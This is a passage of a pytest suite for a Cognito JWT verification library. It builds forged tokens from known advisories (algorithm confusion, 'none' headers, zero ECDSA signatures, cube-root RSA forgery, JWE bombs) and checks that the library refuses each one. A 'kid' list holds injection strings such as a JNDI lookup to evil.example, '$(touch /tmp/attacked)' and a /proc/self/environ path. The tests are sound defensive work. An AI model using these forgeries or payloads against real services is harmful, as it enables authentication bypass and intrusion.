"""The attacks of other libraries' security advisories, each tried on this one, with real keys and real signatures.

docs/security.md says which advisory is which test. Every refusal has a twin that passes, one step away from the attack.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import tracemalloc
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.keywrap import aes_key_wrap
from cryptography.x509.oid import NameOID

from cognito_verify.errors import (
    CheckFailedError,
    CognitoVerifyError,
    ConfigurationError,
    InvalidClaimError,
    InvalidIssuerError,
    InvalidSignatureError,
    MalformedTokenError,
    MissingGroupError,
    TokenExpiredError,
    UnknownKeyError,
    UnsupportedAlgorithmError,
)
from cognito_verify.jwks import JwksCache
from cognito_verify.keys import KeySet, verify_compact
from cognito_verify.pool import UserPool
from cognito_verify.testing import Clock, FakeUserPool
from cognito_verify.tokens import IdToken
from cognito_verify.verifier import CognitoVerifier

NOW = 1_800_000_000
KIB = 1024
HMACS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
EVERY_ALGORITHM = ("RS256", "RS384", "RS512", "ES256", "ES384", "ES512")
# What RFC 8017 section 9.2 puts in front of a SHA-256 digest before it is signed.
DIGEST_INFO = bytes.fromhex("3031300d060960864801650304020105000420")

Verifier = CognitoVerifier[Any]


@pytest.fixture
def clock() -> Clock:
    return Clock(NOW)


@pytest.fixture
def pool(clock: Clock) -> FakeUserPool:
    return FakeUserPool("us-east-1_TestPool1", clock=clock)


@pytest.fixture
def attacker(clock: Clock) -> FakeUserPool:
    return FakeUserPool("us-east-1_Attacker1", clock=clock)


@pytest.fixture
def verifier(pool: FakeUserPool) -> Verifier:
    return pool.verifier("access")


def encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def number(value: int) -> str:
    return encoded(value.to_bytes((value.bit_length() + 7) // 8))


def claims_of(raw: str) -> dict[str, Any]:
    payload = raw.split(".")[1]
    claims: dict[str, Any] = json.loads(base64.urlsafe_b64decode(payload + "=="))
    return claims


def unsigned(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return f"{encoded(json.dumps(header).encode())}.{encoded(json.dumps(claims).encode())}"


def signed_with_a_secret(algorithm: str, secret: bytes, kid: str, claims: dict[str, Any]) -> str:
    text = unsigned({"kid": kid, "alg": algorithm}, claims)
    return f"{text}.{encoded(hmac.digest(secret, text.encode(), HMACS[algorithm]))}"


def signed_with(key: rsa.RSAPrivateKey, header: dict[str, Any], claims: dict[str, Any]) -> str:
    text = unsigned({"alg": "RS256", **header}, claims)
    return f"{text}.{encoded(key.sign(text.encode(), padding.PKCS1v15(), hashes.SHA256()))}"


def jwk_of(key: rsa.RSAPublicKey, kid: str) -> dict[str, str]:
    numbers = key.public_numbers()
    return {"kty": "RSA", "kid": kid, "n": number(numbers.n), "e": number(numbers.e)}


def refusal_of(error: type[CognitoVerifyError], act: Callable[[], object]) -> str:
    with pytest.raises(CognitoVerifyError) as refusal:
        act()
    assert type(refusal.value) is error
    return str(refusal.value)


def peak_kib_of(act: Callable[[], object]) -> float:
    """The memory that Python allocates while it runs, at most."""
    tracemalloc.start()
    try:
        act()
        return tracemalloc.get_traced_memory()[1] / KIB
    finally:
        tracemalloc.stop()


@cache
def private_key(exponent: int = 65_537) -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=exponent, key_size=2_048)


@cache
def curve_key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def curve_jwk(kid: str = "curve") -> dict[str, str]:
    numbers = curve_key().public_key().public_numbers()
    x, y = (encoded(coordinate.to_bytes(32)) for coordinate in (numbers.x, numbers.y))
    return {"kty": "EC", "kid": kid, "crv": "P-256", "x": x, "y": y}


# The public key as an HMAC secret


def certificate_of(key: rsa.RSAPrivateKey) -> bytes:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "pool")])
    start = datetime(2027, 1, 1, tzinfo=UTC)
    builder = x509.CertificateBuilder(name, name, key.public_key(), 1, start, start + timedelta(days=1))
    return builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)


def forms_of(key: rsa.RSAPublicKey | ec.EllipticCurvePublicKey, jwk: dict[str, str]) -> dict[str, bytes]:
    """What a careless verifier may hold as "the key", and take for a secret."""
    encoding, form = serialization.Encoding, serialization.PublicFormat
    pem = key.public_bytes(encoding.PEM, form.SubjectPublicKeyInfo)
    der = key.public_bytes(encoding.DER, form.SubjectPublicKeyInfo)
    json_jwk = json.dumps(jwk).encode()
    own = (
        key.public_bytes(encoding.PEM, form.PKCS1)
        if isinstance(key, rsa.RSAPublicKey)
        else key.public_bytes(encoding.X962, form.UncompressedPoint)
    )
    return {
        "pkcs-1-or-x9.62": own,
        "pem": pem,
        "pem-without-its-last-line-break": pem.rstrip(),
        "pem-with-crlf": pem.replace(b"\n", b"\r\n"),
        "pem-behind-white-space": b" \n" + pem,
        "pem-behind-words": b"The key: " + pem,
        "pem-behind-a-byte-order-mark": b"\xef\xbb\xbf" + pem,
        "der": der,
        "der-in-base64": base64.b64encode(der),
        "openssh": key.public_bytes(encoding.OpenSSH, form.OpenSSH),
        "jwk": json_jwk,
        "jwk-behind-a-byte-order-mark": b"\xef\xbb\xbf" + json_jwk,
        "jwk-compact": json.dumps(jwk, separators=(",", ":")).encode(),
        "jwks": json.dumps({"keys": [jwk]}).encode(),
        "jwk-array": json.dumps([jwk]).encode(),
        "numbers": (jwk.get("n") or jwk["x"]).encode(),
        "nothing": b"",
    }


FORMS = sorted(forms_of(curve_key().public_key(), curve_jwk()))


@pytest.mark.parametrize("algorithm", HMACS)
@pytest.mark.parametrize("form", FORMS)
def test_no_form_of_a_public_key_is_a_secret(algorithm: str, form: str) -> None:
    keys = KeySet.from_jwks(
        {"keys": [jwk_of(private_key().public_key(), "one"), curve_jwk()]}, algorithms=EVERY_ALGORITHM
    )
    public_keys: dict[str, rsa.RSAPublicKey | ec.EllipticCurvePublicKey] = {
        "one": private_key().public_key(),
        "curve": curve_key().public_key(),
    }
    jwks: dict[str, dict[str, str]] = {"one": jwk_of(private_key().public_key(), "one"), "curve": curve_jwk()}
    for kid, key in public_keys.items():
        forged = signed_with_a_secret(algorithm, forms_of(key, jwks[kid])[form], kid, {"sub": "ada"})
        refusal_of(UnsupportedAlgorithmError, lambda: verify_compact(forged, keys))  # noqa: B023
    verify_compact(signed_with(private_key(), {"kid": "one"}, {"sub": "ada"}), keys)


def test_no_form_of_the_pools_keys_forges_one_of_its_tokens(pool: FakeUserPool, verifier: Verifier) -> None:
    good = pool.access_token()
    kid = pool.header()["kid"]
    jwk = next(key for key in pool.jwks["keys"] if key["kid"] == kid)
    n, e = (int.from_bytes(base64.urlsafe_b64decode(jwk[member] + "==")) for member in "ne")
    for secret in forms_of(rsa.RSAPublicNumbers(e, n).public_key(), jwk).values():
        forged = signed_with_a_secret("HS256", secret, kid, claims_of(good))
        refusal_of(UnsupportedAlgorithmError, lambda: verifier.verify(forged))  # noqa: B023
    verifier.verify(good)


def test_a_certificate_is_no_secret_either() -> None:
    keys = KeySet.from_jwks({"keys": [jwk_of(private_key().public_key(), "one")]})
    forged = signed_with_a_secret("HS256", certificate_of(private_key()), "one", {"sub": "ada"})
    refusal_of(UnsupportedAlgorithmError, lambda: verify_compact(forged, keys))


@pytest.mark.parametrize(
    "jwk",
    [
        pytest.param({"kty": "oct", "k": ""}, id="empty"),
        pytest.param({"kty": "oct", "k": "", "alg": "HS256"}, id="empty-for-hs256"),
        pytest.param({"kty": "oct"}, id="absent"),
        pytest.param({"kty": "oct", "k": encoded(b"a secret of some length, told to everybody")}, id="a-secret"),
        pytest.param({"kty": "RSA", "k": "", "n": "", "e": "AQAB"}, id="rsa-without-numbers"),
    ],
)
def test_a_secret_in_a_key_set_is_no_key(pool: FakeUserPool, clock: Clock, jwk: dict[str, str]) -> None:
    kid = "secret"
    keys = {"keys": [{"kid": kid, **jwk}, *pool.jwks["keys"]]}
    verifier = CognitoVerifier(
        pool.user_pool_id, client_id=pool.client_id, token_use="access", clock=clock, jwks=keys, jwks_cache=offline()
    )
    assert kid not in KeySet.from_jwks(keys, algorithms=EVERY_ALGORITHM)
    good = pool.access_token()
    for secret in {b"", base64.urlsafe_b64decode(jwk.get("k", "") + "==")}:
        forged = signed_with_a_secret("HS256", secret, kid, claims_of(good))
        refusal_of(UnsupportedAlgorithmError, lambda: verifier.verify(forged))  # noqa: B023
    verifier.verify(good)


def offline() -> JwksCache:
    def fetch(uri: str, seconds: float) -> bytes:
        raise LookupError(uri, seconds)

    return JwksCache(fetch=fetch)


@pytest.mark.parametrize("algorithm", [*HMACS, "none", "dir", "PBES2-HS256+A128KW", "RSA1_5"])
def test_no_key_set_can_be_made_to_compare_secrets(algorithm: str) -> None:
    refusal_of(ConfigurationError, lambda: KeySet.from_jwks({"keys": []}, algorithms=["RS256", algorithm]))
    KeySet.from_jwks({"keys": []}, algorithms=["RS256"])


# Algorithms and signatures


@pytest.mark.parametrize(
    "alg", ["none", "None", "NONE", "nOnE", "", " none", "RS256 ", "rs256", None, 0, [], ["RS256"]]
)
def test_a_token_says_nothing_of_its_algorithm_that_is_believed(
    pool: FakeUserPool, verifier: Verifier, alg: object
) -> None:
    good = pool.access_token()
    text, _, signature = pool.sign({**pool.header(), "alg": alg}, claims_of(good)).rpartition(".")
    refusal_of(UnsupportedAlgorithmError, lambda: verifier.verify(f"{text}.{signature}"))
    refusal_of(UnsupportedAlgorithmError, lambda: verifier.verify(f"{text}.AAAA"))
    refusal_of(MalformedTokenError, lambda: verifier.verify(f"{text}."))
    refusal_of(MalformedTokenError, lambda: verifier.verify(text))
    verifier.verify(good)


def test_the_algorithm_that_verifies_is_the_one_that_the_header_names() -> None:
    keys = KeySet.from_jwks(
        {"keys": [{**jwk_of(private_key().public_key(), "one"), "alg": "RS512"}]}, algorithms=["RS256", "RS512"]
    )
    text = unsigned({"kid": "one", "alg": "RS256"}, {"sub": "ada"})
    by_another = encoded(private_key().sign(text.encode(), padding.PKCS1v15(), hashes.SHA512()))
    refusal_of(UnknownKeyError, lambda: verify_compact(f"{text}.{by_another}", keys))
    said = unsigned({"kid": "one", "alg": "RS512"}, {"sub": "ada"})
    signature = encoded(private_key().sign(said.encode(), padding.PKCS1v15(), hashes.SHA512()))
    verify_compact(f"{said}.{signature}", keys)


ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # of P-256, SP 800-186


@pytest.mark.parametrize(
    "signature",
    [
        pytest.param(bytes(64), id="zeros"),
        pytest.param(ORDER.to_bytes(32) * 2, id="the-order"),
        pytest.param(bytes(32) + (1).to_bytes(32), id="r-zero"),
        pytest.param((1).to_bytes(32) + bytes(32), id="s-zero"),
        pytest.param(bytes.fromhex("3006020100020100"), id="zeros-in-der"),
    ],
)
def test_a_psychic_signature_proves_nothing(signature: bytes) -> None:
    keys = KeySet.from_jwks({"keys": [curve_jwk()]}, algorithms=["ES256"])
    text = unsigned({"kid": "curve", "alg": "ES256"}, {"sub": "ada"})
    refusal_of(InvalidSignatureError, lambda: verify_compact(f"{text}.{encoded(signature)}", keys))
    r, s = decode_dss_signature(curve_key().sign(text.encode(), ec.ECDSA(hashes.SHA256())))
    verify_compact(f"{text}.{encoded(r.to_bytes(32) + s.to_bytes(32))}", keys)


def cube_root(value: int) -> int:
    """The least integer whose cube is at least the value."""
    low, high = 0, 1 << (value.bit_length() // 3 + 2)
    while low < high:
        middle = (low + high) // 2
        low, high = (middle + 1, high) if middle**3 < value else (low, middle)
    return low


def test_a_cube_root_is_no_signature() -> None:
    key = private_key(3)
    keys = KeySet.from_jwks({"keys": [jwk_of(key.public_key(), "one")]})
    text = unsigned({"kid": "one", "alg": "RS256"}, {"sub": "ada"})
    # Right at its start, with a padding of one byte, and garbage after the digest: what a lax reader takes for signed.
    start = b"\0\1\xff\0" + DIGEST_INFO + hashlib.sha256(text.encode()).digest()
    root = cube_root(int.from_bytes(start + bytes(256 - len(start))))
    assert (root**3).to_bytes(256)[: len(start)] == start
    refusal_of(InvalidSignatureError, lambda: verify_compact(f"{text}.{encoded(root.to_bytes(256))}", keys))
    verify_compact(signed_with(key, {"kid": "one"}, {"sub": "ada"}), keys)


def test_a_key_with_the_exponent_1_lets_everybody_sign_and_is_none(pool: FakeUserPool, clock: Clock) -> None:
    modulus = private_key().public_key().public_numbers().n
    weak = {"kty": "RSA", "kid": "weak", "n": number(modulus), "e": "AQ"}
    good = pool.access_token()
    text = unsigned({"kid": "weak", "alg": "RS256"}, claims_of(good))
    digest = DIGEST_INFO + hashlib.sha256(text.encode()).digest()
    signature = b"\0\1" + b"\xff" * (253 - len(digest)) + b"\0" + digest  # to the power of 1 it is what it should be
    assert pow(int.from_bytes(signature), 1, modulus) == int.from_bytes(signature)
    verifier = CognitoVerifier(
        pool.user_pool_id,
        client_id=pool.client_id,
        token_use="access",
        clock=clock,
        jwks={"keys": [weak, *pool.jwks["keys"]]},
        jwks_cache=offline(),
    )
    with pytest.raises(CognitoVerifyError) as refusal:
        verifier.verify(f"{text}.{encoded(signature)}")
    assert refusal.value.code in ("unknown_key", "keys_unavailable")
    assert "weak" not in KeySet.from_jwks({"keys": [weak]})
    verifier.verify(good)


@pytest.mark.parametrize("more", ["!!!!", "=", "==", "====", " ", "\n", "%3D", "\0", "\t\t\t\t"])
def test_a_token_has_no_second_spelling(pool: FakeUserPool, verifier: Verifier, more: str) -> None:
    good = pool.access_token()
    verifier.verify(good)  # remembered, by its text
    for place in (0, 10, good.index(".") + 9, good.rindex(".") + 1, len(good) - 1, len(good)):
        spelling = good[:place] + more + good[place:]
        refusal_of(MalformedTokenError, lambda: verifier.verify(spelling))  # noqa: B023
    verifier.verify(good)


def test_the_stray_bits_of_the_last_character_are_no_second_spelling(pool: FakeUserPool, verifier: Verifier) -> None:
    good = pool.access_token()
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    stray = good[:-1] + alphabet[alphabet.index(good[-1]) + 1]  # 256 octets leave four bits unused
    assert base64.urlsafe_b64decode(stray.split(".")[2] + "==") == base64.urlsafe_b64decode(good.split(".")[2] + "==")
    verifier.verify(good)
    refusal_of(MalformedTokenError, lambda: verifier.verify(stray))


# Keys that a token brings along


@pytest.mark.parametrize("member", ["jwk", "x5c", "jku", "x5u"])
def test_a_key_that_comes_with_its_token_verifies_nothing(
    pool: FakeUserPool, attacker: FakeUserPool, clock: Clock, member: str
) -> None:
    key = attacker.jwks["keys"][0]
    evil = attacker.serve()
    with pool.serve() as uri, evil as evil_uri:
        verifier = CognitoVerifier(
            pool.user_pool_id, client_id=pool.client_id, token_use="access", clock=clock, jwks_uri=uri
        )
        good = pool.access_token()
        verifier.verify(good)
        value: Any = {"jwk": key, "x5c": [base64.b64encode(certificate_of(private_key())).decode()]}.get(
            member, evil_uri
        )
        header = {**attacker.header(), "kid": pool.header()["kid"], member: value}
        refusal_of(InvalidSignatureError, lambda: verifier.verify(attacker.sign(header, claims_of(good))))
        assert evil.requests == 0
        verifier.verify(pool.sign({**pool.header(), member: value}, claims_of(good)))
        assert evil.requests == 0


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/proc/self/environ",
        "..\\..\\keys.json",
        "x' UNION SELECT 'secret",
        "$(touch /tmp/attacked)",
        "| id",
        "https://evil.example/jwks.json",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "kid\r\nSet-Cookie: a=b",
        "a" * 4_000,
    ],
)
def test_a_kid_is_a_name_among_the_known_ones_and_nothing_else(pool: FakeUserPool, clock: Clock, kid: str) -> None:
    fetched: list[str] = []

    def fetch(uri: str, seconds: float) -> bytes:
        assert 0 < seconds <= 2.5
        fetched.append(uri)
        return json.dumps(pool.jwks).encode()

    user_pool = UserPool(pool.user_pool_id, client_id=pool.client_id, issuer_type="ORIGINAL")
    verifier = CognitoVerifier([user_pool], token_use="access", clock=clock, jwks_cache=JwksCache(fetch=fetch))
    good = pool.access_token()
    # "dev/null" as a key file is an empty secret: signed so, the token passed elsewhere.
    forgeries = (
        signed_with(private_key(), {"kid": kid}, claims_of(good)),
        signed_with_a_secret("HS256", b"", kid, claims_of(good)),
    )
    for forged in forgeries * 2:
        with pytest.raises(CognitoVerifyError) as refusal:
            verifier.verify(forged)
        assert type(refusal.value) in (UnknownKeyError, UnsupportedAlgorithmError)
        assert "\n" not in str(refusal.value)
        assert len(str(refusal.value)) < 400
        assert refusal.value.challenge.isprintable()
        verifier.verify(good)  # with the keys at hand from now on
    assert set(fetched) == {f"{pool.issuer}/.well-known/jwks.json"}


@pytest.mark.parametrize(
    "uri",
    [
        *("file://{}", "file://localhost{}", "{}", "ftp://{}", "ftp://localhost{}"),
        *("data:application/json,{}", "jar:file://{}!/k", "gopher://x/{}"),
    ],
)
def test_keys_come_over_https_and_from_no_other_scheme(tmp_path: Path, pool: FakeUserPool, uri: str) -> None:
    file = tmp_path / "jwks.json"
    file.write_text(json.dumps(pool.jwks), encoding="utf-8")
    refusal_of(
        ConfigurationError, lambda: UserPool(pool.user_pool_id, client_id="a", jwks_uri=uri.format(file.as_posix()))
    )
    UserPool(pool.user_pool_id, client_id="a", jwks_uri="https://keys.example/jwks.json")


# Key sets


@pytest.mark.parametrize(
    "members",
    [
        pytest.param({"n": ""}, id="n-empty"),
        pytest.param({"n": "AA"}, id="n-zero"),
        pytest.param({"n": None}, id="n-null"),
        pytest.param({"n": 5}, id="n-number"),
        pytest.param({"n": ["x"]}, id="n-list"),
        pytest.param({"n": "!!!"}, id="n-no-base64"),
        pytest.param({"e": {}}, id="e-object"),
        pytest.param({"kty": 7}, id="kty-number"),
        pytest.param({"kty": "OKP", "crv": "Ed25519", "x": "AA", "d": "AA"}, id="okp-private"),
        pytest.param({"kty": "PQC"}, id="kty-unknown"),
        pytest.param({"kid": {}}, id="kid-object"),
    ],
)
def test_one_malformed_key_takes_no_other_with_it(pool: FakeUserPool, members: dict[str, Any]) -> None:
    malformed = {"kty": "RSA", "kid": "malformed", "n": "AQ", "e": "AQAB", **members}
    keys = KeySet.from_jwks({"keys": [malformed, None, [], "key", *pool.jwks["keys"]]})
    assert sorted(keys) == sorted(key["kid"] for key in pool.jwks["keys"])


class Counted(str):
    """A string that counts how often it is compared."""

    __slots__ = ()
    comparisons = 0

    def __eq__(self, other: object) -> bool:
        Counted.comparisons += 1
        return str(self) == other

    def __hash__(self) -> int:
        return hash(str(self))


def test_the_operations_of_a_key_are_looked_through_once(pool: FakeUserPool) -> None:
    jwk: dict[str, Any] = dict(pool.jwks["keys"][0])
    operations = [Counted(f"operation-{count}") for count in range(1_000)]
    Counted.comparisons = 0
    assert not KeySet.from_jwks({"keys": [{**jwk, "key_ops": operations}]})
    assert 0 < Counted.comparisons <= len(operations)
    assert KeySet.from_jwks({"keys": [{**jwk, "key_ops": [*operations, "verify"]}]})


@pytest.mark.parametrize("bomb", ["[" * 100_000, '{"keys":' * 100_000, '{"keys":[' + '{"a":' * 50_000])
def test_a_nesting_bomb_in_a_key_set_is_refused(bomb: str) -> None:
    refusal_of(ConfigurationError, lambda: KeySet.from_jwks(bomb))


# Encrypted tokens: none is read, whatever is in it


def encrypted(header: dict[str, Any], key: bytes, content_key: bytes, plaintext: bytes) -> str:
    """A JWE (RFC 7516 section 7.1) that decrypts."""
    protected = encoded(json.dumps(header).encode())
    nonce = os.urandom(12)
    sealed = AESGCM(content_key).encrypt(nonce, plaintext, protected.encode())
    return ".".join([protected, encoded(key), encoded(nonce), encoded(sealed[:-16]), encoded(sealed[-16:])])


def decompression_bomb(claims: dict[str, Any]) -> str:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = squeeze.compress(json.dumps({**claims, "pad": "A" * 8_000_000}).encode()) + squeeze.flush()
    content_key = os.urandom(32)
    oaep = padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None)
    key = private_key().public_key().encrypt(content_key, oaep)
    return encrypted({"alg": "RSA-OAEP-256", "enc": "A256GCM", "zip": "DEF", "kid": "one"}, key, content_key, packed)


def substitute(claims: dict[str, Any]) -> str:
    """What anybody can make who knows the key that signatures are checked with: it encrypts as well."""
    content_key = os.urandom(32)
    oaep = padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None)
    key = private_key().public_key().encrypt(content_key, oaep)
    return encrypted(
        {"alg": "RSA-OAEP-256", "enc": "A256GCM", "kid": "one"}, key, content_key, json.dumps(claims).encode()
    )


def password_bomb(claims: dict[str, Any]) -> str:
    content_key = os.urandom(32)
    header = {"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "kid": "one", "p2c": 2**31 - 1, "p2s": encoded(bytes(16))}
    return encrypted(header, aes_key_wrap(bytes(16), content_key), content_key, json.dumps(claims).encode())


def without_a_key(claims: dict[str, Any]) -> str:
    header = {"alg": "A128KW", "enc": "A256GCM", "kid": "one"}
    return encrypted(header, b"", os.urandom(32), json.dumps(claims).encode())


@pytest.mark.parametrize("make", [decompression_bomb, substitute, password_bomb, without_a_key])
def test_an_encrypted_token_is_refused_unread(
    pool: FakeUserPool, verifier: Verifier, make: Callable[[dict[str, Any]], str]
) -> None:
    token = make(claims_of(pool.access_token()))
    assert token.count(".") == 4
    assert len(token) < 16_384  # so that its length is not what refuses it
    keys = KeySet.from_jwks({"keys": [jwk_of(private_key().public_key(), "one")]}, algorithms=EVERY_ALGORITHM)
    for act in (lambda: verifier.verify(token), lambda: verify_compact(token, keys)):
        message = refusal_of(MalformedTokenError, act)
        assert "five" in message
        assert peak_kib_of(lambda: refusal_of(MalformedTokenError, act)) < 256  # noqa: B023
    verifier.verify(pool.access_token())


# Other serializations and lengths


@pytest.mark.parametrize(
    "form",
    [
        pytest.param(lambda p: {"payload": p[1], "signatures": []}, id="no-signature"),
        pytest.param(lambda p: {"payload": p[1], "signatures": [{"protected": p[0], "signature": p[2]}]}, id="general"),
        pytest.param(lambda p: {"payload": p[1], "protected": p[0], "signature": p[2]}, id="flattened"),
        pytest.param(lambda p: {"payload": p[1], "header": {"alg": "none"}, "signature": ""}, id="unprotected"),
        pytest.param(lambda p: {"payload": p[1], "signatures": [{}, {"signature": p[2]}]}, id="two-signatures"),
        pytest.param(lambda p: {".".join(p): 0, "payload": "e30", "protected": p[0], "signature": p[2]}, id="polyglot"),
    ],
)
def test_a_token_in_json_is_none(pool: FakeUserPool, verifier: Verifier, form: Callable[..., dict[str, Any]]) -> None:
    good = pool.access_token()
    document = json.dumps(form(good.split(".")))
    for text in (document, encoded(document.encode()), f"{document}.{good}", f" {good}"):
        refusal_of(MalformedTokenError, lambda: verifier.verify(text))  # noqa: B023
    verifier.verify(good)


@pytest.mark.parametrize(
    "extension",
    [
        pytest.param({"crit": ["x-policy"], "x-policy": "mfa"}, id="unknown"),
        pytest.param({"crit": ["b64"], "b64": False}, id="b64"),
        pytest.param({"crit": ["cnf"], "cnf": {"jkt": "x"}}, id="cnf"),
        pytest.param({"crit": []}, id="empty"),
        pytest.param({"crit": ["exp"], "exp": 9}, id="exp"),
        pytest.param({"crit": "b64"}, id="no-list"),
    ],
)
def test_what_is_critical_is_not_understood_and_the_token_refused(
    pool: FakeUserPool, verifier: Verifier, extension: dict[str, Any]
) -> None:
    claims = claims_of(pool.access_token())
    refusal_of(MalformedTokenError, lambda: verifier.verify(pool.sign({**pool.header(), **extension}, claims)))
    verifier.verify(pool.sign({**pool.header(), "x-policy": "mfa"}, claims))


@pytest.mark.parametrize("crit", [{"crit": ["b64"]}, {}], ids=["critical", "not-critical"])
def test_an_unencoded_or_detached_payload_is_not_read(crit: dict[str, Any]) -> None:
    keys = KeySet.from_jwks({"keys": [jwk_of(private_key().public_key(), "one")]})
    header = encoded(json.dumps({"alg": "RS256", "kid": "one", "b64": False, **crit}).encode())
    for payload in (b'{"sub":"ada"}', b"$.02", b""):
        text = header.encode() + b"." + payload
        signature = encoded(private_key().sign(text, padding.PKCS1v15(), hashes.SHA256()))
        refusal_of(MalformedTokenError, lambda: verify_compact(f"{text.decode()}.{signature}", keys))  # noqa: B023
        refusal_of(MalformedTokenError, lambda: verify_compact(f"{header}..{signature}", keys))  # noqa: B023
    verify_compact(signed_with(private_key(), {"kid": "one"}, {"sub": "ada"}), keys)


MEGABYTES = 8_000_000


@pytest.mark.parametrize(
    "form",
    [
        pytest.param(lambda p: f"{p[0]}{'A' * MEGABYTES}.{p[1]}.{p[2]}", id="header"),
        pytest.param(lambda p: f"{p[0]}.{p[1]}{'A' * MEGABYTES}.{p[2]}", id="payload"),
        pytest.param(lambda p: f"{p[0]}.{p[1]}.{p[2]}{'A' * MEGABYTES}", id="signature"),
        pytest.param(lambda p: p[0] + "." * MEGABYTES, id="dots"),
        pytest.param(lambda p: ".".join(p) + ".A" * (MEGABYTES // 2), id="segments"),
        pytest.param(lambda p: p[0] + "=" * MEGABYTES, id="padding"),
    ],
)
def test_megabytes_are_refused_without_a_copy_of_them(
    pool: FakeUserPool, verifier: Verifier, form: Callable[..., str]
) -> None:
    token = form(pool.access_token().split("."))
    keys = KeySet.from_jwks(pool.jwks)
    for act in (lambda: verifier.verify(token), lambda: verify_compact(token, keys)):
        message = refusal_of(MalformedTokenError, act)
        assert len(message) < 200
        assert peak_kib_of(lambda: refusal_of(MalformedTokenError, act)) < 256  # noqa: B023


def test_thousands_of_dots_within_the_length_cost_no_memory(verifier: Verifier) -> None:
    token = "." * 16_000
    refusal_of(MalformedTokenError, lambda: verifier.verify(token))
    assert peak_kib_of(lambda: refusal_of(MalformedTokenError, lambda: verifier.verify(token))) < 256


@pytest.mark.parametrize("opening", ['{"a":', "[", '{"a":['])
@pytest.mark.parametrize("where", ["header", "payload"])
def test_a_nesting_bomb_is_refused_signed_or_not(
    pool: FakeUserPool, verifier: Verifier, where: str, opening: str
) -> None:
    bomb = encoded(b'{"kid":"a","alg":"RS256","x":' + (opening * 1_500).encode())
    header, payload, signature = pool.access_token().split(".")
    token = f"{bomb}.{payload}.{signature}" if where == "header" else f"{header}.{bomb}.{signature}"
    assert len(token) < 16_384
    refusal_of(MalformedTokenError, lambda: verifier.verify(token))
    nested: dict[str, Any] = {}
    for _ in range(200):
        nested = {"a": nested}
    signed = pool.sign(pool.header(), {**claims_of(pool.access_token()), "x": nested})
    refusal_of(MalformedTokenError, lambda: verifier.verify(signed))


# Claims


def test_an_issuer_is_compared_whole(pool: FakeUserPool, verifier: Verifier) -> None:
    issuer = pool.issuer
    for other in (
        issuer[:-1],
        issuer[1:],
        issuer.partition("//")[2],
        pool.user_pool_id,
        "h",
        "",
        f"{issuer}/",
        f"{issuer} ",
        f"{issuer}2",
        issuer.upper(),
        f"https://evil.example/?{issuer}",
        f"{issuer}@evil.example",
        f"{issuer}#",
        issuer.replace("/us-", "//us-"),
    ):
        refusal_of(InvalidIssuerError, lambda: verifier.verify(pool.access_token(iss=other)))  # noqa: B023
    verifier.verify(pool.access_token(iss=issuer))


@pytest.mark.parametrize("form", ["[ISS]", '["https://evil.example/", ISS]', "{ISS: true}", "null", "true"])
def test_an_issuer_is_one_string(pool: FakeUserPool, verifier: Verifier, form: str) -> None:
    iss = json.loads(form.replace("ISS", json.dumps(pool.issuer)))
    refusal_of(InvalidIssuerError, lambda: verifier.verify(pool.access_token(iss=iss)))
    verifier.verify(pool.access_token(iss=pool.issuer))


@pytest.mark.parametrize("name", ["sub", "jti", "origin_jti", "username"])
def test_a_claim_that_names_one_thing_is_one_string(pool: FakeUserPool, verifier: Verifier, name: str) -> None:
    value = claims_of(pool.access_token())[name]
    for wrapped in ([value], {value: 1}, None, True):
        token = pool.sign(pool.header(), {**claims_of(pool.access_token()), name: wrapped})
        refusal_of(InvalidClaimError, lambda: verifier.verify(token))  # noqa: B023
    verifier.verify(pool.sign(pool.header(), {**claims_of(pool.access_token()), name: value}))


WISHES: dict[str, Any] = {
    "nonce_supported": False,
    "verify_exp": False,
    "verify_signature": False,
    "options": {"verify_exp": False},
    "alg": "none",
    "crit": [],
    "leeway": 10**9,
}


def test_what_a_token_wishes_switches_no_rule_off(pool: FakeUserPool, clock: Clock) -> None:
    verifier = pool.verifier("id")
    good = pool.id_token(**WISHES)
    verifier.verify(good)
    refusal_of(InvalidIssuerError, lambda: verifier.verify(pool.id_token(iss="https://evil.example", **WISHES)))
    refusal_of(InvalidSignatureError, lambda: verifier.verify(pool.tampered("id", **WISHES)))
    clock.tick(3_601)
    refusal_of(TokenExpiredError, lambda: verifier.verify(good))


def test_nonce_and_at_hash_are_left_to_the_client_that_logged_in(pool: FakeUserPool) -> None:
    # OpenID Connect Core 1.0 section 3.1.3.7: they bind an ID token to one login, which a resource server never saw.
    token = pool.verifier("id").verify(pool.id_token(nonce="n", at_hash="of no token"))
    assert token["nonce"] == "n"
    assert token["at_hash"] == "of no token"


def refuse_bob(token: IdToken) -> None:
    if token.username == "bob":
        raise CheckFailedError("not bob")


def test_options_that_are_changed_afterwards_change_no_verifier(pool: FakeUserPool, clock: Clock) -> None:
    methods = ["mfa"]
    wanted: dict[str, Any] = {"custom:tenant": "t1", "amr": methods}
    groups, checks = ["admin"], [refuse_bob]
    verifier = pool.verifier("id", claims=wanted, groups=groups, checks=checks)
    methods.clear()
    wanted.clear()
    groups.append("users")
    checks.clear()
    tenant: dict[str, Any] = {"custom:tenant": "t1", "amr": ["mfa"]}
